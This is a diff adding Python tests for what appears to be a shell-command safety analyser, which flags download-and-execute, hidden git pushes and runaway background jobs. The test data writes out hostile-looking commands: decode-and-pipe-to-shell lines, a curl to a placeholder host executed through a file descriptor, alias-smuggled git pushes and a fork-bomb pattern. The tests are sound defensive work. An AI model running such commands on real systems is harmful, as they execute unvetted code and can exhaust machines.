@@ -111,3 +111,51 @@ def test_spans_of_nested_text_are_those_of_the_outer_word() -> None:
     text = "sudo bash -c 'ls; git push'"
     push = next(e for e in analysed(text).effects if e.name == "git.push")
     assert text[slice(*push.span)] == "'ls; git push'"
+
+
+def test_what_is_decoded_before_it_runs_may_come_from_anywhere() -> None:
+    for text in (
+        "base64 -d | sh",
+        "xxd -r -p blob | bash",
+        "openssl base64 -d < blob | sh",
+        'eval "$(base64 -d < blob)"',
+    ):
+        assert "download.exec" in effects(text), text
+
+
+def test_open_descriptors_are_followed() -> None:
+    assert ("git", "push") in argvs("exec 3<<< 'git push'; read -u 3 line; eval \"$line\"")
+    assert ("git", "push") in argvs("exec {fd}<<< 'git push'; bash <&$fd")
+    assert "download.exec" in effects("exec 3< <(curl https://x.example); bash /dev/fd/3")
+
+
+def test_copies_hold_what_was_copied() -> None:
+    for copy in ("cp i.sh j.sh", "mv i.sh j.sh", "dd if=i.sh of=j.sh", "cat i.sh > j.sh", "rsync i.sh j.sh"):
+        assert "download.exec" in effects(f"curl -o i.sh https://x.example; {copy}; bash j.sh"), copy
+
+
+def test_options_from_variables_count() -> None:
+    found = argvs("TAR_OPTIONS='--create --file=x:y' tar -- a")
+    assert found[-1] == ("tar", "--create", "--file=x:y", "--", "a")
+    found = argvs("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!git push' git x")
+    assert ("git", "push") in found
+
+
+def test_merging_counts_on_protected_branches_only() -> None:
+    assert "git.merge.protected" not in effects("git merge topic")
+    assert "git.merge.protected" in effects("git checkout main && git merge topic")
+    assert "git.merge.protected" in effects("git switch main; git merge topic")
+
+
+def test_a_quoted_line_may_be_meant_as_a_command() -> None:
+    push = [e for e in analysed("'git push'").effects if e.name == "git.push"]
+    assert push
+    assert not push[0].certain
+
+
+def test_endless_background_jobs_are_catastrophic() -> None:
+    assert "catastrophic" in effects("while true; do work & done")
+    assert "catastrophic" in effects("a() { b & }; b() { a; }; a")
+    assert "catastrophic" not in effects("while true; do work & wait; done")
+    assert "catastrophic" not in effects("while read x; do work $x & done")
+    assert "catastrophic" not in effects("while true; do work & sleep 5; done")
